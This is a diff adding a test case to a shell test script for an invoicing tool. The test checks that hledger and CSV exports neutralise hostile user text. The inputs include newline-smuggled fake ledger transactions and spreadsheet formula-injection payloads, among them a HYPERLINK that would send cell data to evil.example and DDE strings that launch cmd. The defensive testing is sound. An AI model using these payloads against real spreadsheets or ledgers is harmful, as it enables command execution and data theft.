@@ -260,6 +260,107 @@ hledger_matches_hourbank)
   money=$(hledger -f "$T/j.journal" bal 'clients:acme:(invoiced|paid)' -N -O csv | tail -n +2 | tr -d '"' | awk -F, '{gsub(/ USD/,"",$2); gsub(/\./,"",$2); s+=$2} END {print s}')
   [ "$money" = "$outstanding" ] || fail "outstanding: hledger $money, hourbank $outstanding ($out_h)"
   ;;
+hostile_exports)
+  # Issue 14 item 11: user text that other tools would read as structure. Two ledgers are built
+  # with the same commands: "plain" with ordinary text, "hostile" with payment refs holding
+  # newlines that spell out whole fake hledger transactions and directives, ';' (hledger's
+  # comment start), tabs, control characters and unicode, and tasks/notes/staff that
+  # spreadsheets would run as formulas (= + - @ TAB CR). hledger must see exactly the same
+  # transactions and totals in both exports, and the CSV must parse back to the same rows with
+  # no cell a live formula.
+  if ! command -v hledger >/dev/null; then echo "hledger not installed (tools/setup.sh): skipped"; exit 0; fi
+  cat > "$T/plan.toml" <<'EOF'
+[[plan]]
+id = "basic"
+currency = "USD"
+fee_minor = 50000
+included_minutes = 600
+overage_rate_minor = 6000
+grace_days = 30
+
+[[plan.kinds]]
+id = "support"
+unit = "hour"
+EOF
+  fake=$'inv-1\n2026-01-05 fake payment\n    cash:acme  1000000 USD\n    clients:acme:paid  -1000000 USD\n\n2026-01-06 more\n  (clients:acme:invoiced)  -5 USD'
+  build_twin() {  # DIR HOSTILE(0|1)
+    export HOURBANK_LEDGER=$1
+    local h=$2
+    r1=inv-1 r2=inv-2 r3=inv-3 t1=T-1 t2=T-2 t3=T-3 t4=T-4 t5=T-5 n1=n s1=ann
+    if [ "$h" = 1 ]; then
+      r1=$fake
+      r2=$'x ; comment: tag\r\nP 2026-01-01 USD 1000 EUR\n= expr:clients\n~ monthly\n'
+      r3=$'\t\x1b[31mred\x07 \xe2\x80\xae\xd0\x9f\xd1\x80\xd0\xb8\xd0\xb2\xd0\xb5\xd1\x82 \xf0\x9f\x92\xb8 ;; |payee'
+      t1='=HYPERLINK("http://evil.example/?x="&A1,"click")'
+      t2="+cmd|' /C calc'!A0"
+      t3='-2+3'
+      t4="@SUM(1+1)*cmd|'/C calc'!A0"
+      t5=$'\t=1+1'
+      n1=$'\r=2+2\nsecond line, "quoted"; semi'
+      s1='=ann'
+    fi
+    hb init >/dev/null
+    HOURBANK_NOW=2026-01-02T09:00Z hb plan define "$T/plan.toml" >/dev/null
+    HOURBANK_NOW=2026-01-02T09:00Z hb client add acme --name Acme --currency USD --timezone UTC >/dev/null
+    HOURBANK_NOW=2026-01-02T09:00Z hb contract start acme --plan basic --from 2026-01 --months 12 >/dev/null
+    export HOURBANK_NOW=2026-01-20T10:00Z
+    hb log acme 1h --kind support --at 2026-01-10T10:00 --task "$t1" --staff "$s1" --note "$n1" >/dev/null
+    hb log acme 2h --kind support --at 2026-01-11T10:00 --task "$t2" --staff bob >/dev/null
+    hb log acme 30m --kind support --at 2026-01-12T10:00 --task "$t3" --staff bob >/dev/null
+    hb log acme 9h --kind support --at 2026-01-13T10:00 --task "$t4" --staff bob >/dev/null
+    hb pay acme 100 --ref "$r1" --at 2026-01-14T10:00 >/dev/null
+    export HOURBANK_NOW=2026-02-01T10:00Z
+    hb close acme 2026-01 >/dev/null
+    hb pay acme 200.50 --ref "$r2" >/dev/null
+    hb pay acme 3 --ref "$r3" >/dev/null
+    export HOURBANK_NOW=2026-02-20T10:00Z
+    hb log acme 1h --kind support --at 2026-02-10T10:00 --task "$t5" --staff bob >/dev/null
+    hb export --format hledger --out "$1.journal"
+    hb export --format csv --out "$1.csv"
+  }
+  build_twin "$T/plain" 0
+  build_twin "$T/hostile" 1
+  for x in plain hostile; do
+    hledger -f "$T/$x.journal" print -O csv > "$T/$x.print.csv" || fail "hledger cannot read the $x export"
+    hledger -f "$T/$x.journal" bal -N -O csv > "$T/$x.bal.csv" || fail "hledger bal on the $x export"
+  done
+  python3 - "$T" <<'EOF' || fail "hostile exports (see above)"
+import csv, sys
+T = sys.argv[1]
+def txns(x):
+    rows = list(csv.DictReader(open(f"{T}/{x}.print.csv", newline="")))
+    return {r["txnidx"]: r["description"] for r in rows}, [(r["account"], r["amount"]) for r in rows]
+plain, plain_postings = txns("plain")
+hostile, hostile_postings = txns("hostile")
+# hledger sees exactly the ledger's transactions: 3 payments plus the month transactions.
+assert len(hostile) == len(plain), (len(hostile), len(plain), hostile)
+assert sorted(hostile_postings) == sorted(plain_postings), (hostile_postings, plain_postings)
+assert sum(d.startswith("payment #") for d in hostile.values()) == 3, hostile
+assert open(f"{T}/plain.bal.csv").read() == open(f"{T}/hostile.bal.csv").read(), "balances differ"
+# The refs are in the descriptions, escaped: one line each, no ';' comment, no raw control byte.
+descs = [d for d in hostile.values() if d.startswith("payment #")]
+assert any("fake payment" in d and "\\x0a" in d for d in descs), descs
+assert any("\\x3b comment" in d for d in descs), descs
+assert all(not any(ord(c) < 0x20 or ord(c) == 0x7f for c in d) for d in descs), descs
+# CSV: the same rows as the plain twin, the hostile text intact behind a quote, no formula.
+def rows(x):
+    return list(csv.reader(open(f"{T}/{x}.csv", newline="", encoding="utf-8")))
+p, h = rows("plain"), rows("hostile")
+assert len(h) == len(p) and all(len(r) == len(p[0]) for r in h), (len(h), len(p))
+for r in h[1:]:
+    for cell in r:
+        plain_int = cell[1:].isdigit() if cell.startswith("-") else cell.isdigit()
+        assert plain_int or not cell or cell[0] not in "=+-@\t\r", ("formula cell", cell, r)
+header = h[0]
+tasks = {r[header.index("task")] for r in h[1:]}
+assert "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")" in tasks, tasks
+assert {"'-2+3", "'\t=1+1", "'@SUM(1+1)*cmd|'/C calc'!A0", "'+cmd|' /C calc'!A0"} <= tasks, tasks
+notes = [r[header.index("note")] for r in h[1:]]
+assert "'\r=2+2\nsecond line, \"quoted\"; semi" in notes, notes
+assert "'=ann" in [r[header.index("staff")] for r in h[1:]]
+print("hostile exports ok:", len(hostile), "transactions,", len(h) - 1, "csv rows")
+EOF
+  ;;
 as_of_vs_known_at)
   # A late entry recorded in May for work done in March. --as-of (business time) sees it in a
   # March balance; --known-at (recorded time) before it was recorded does not.
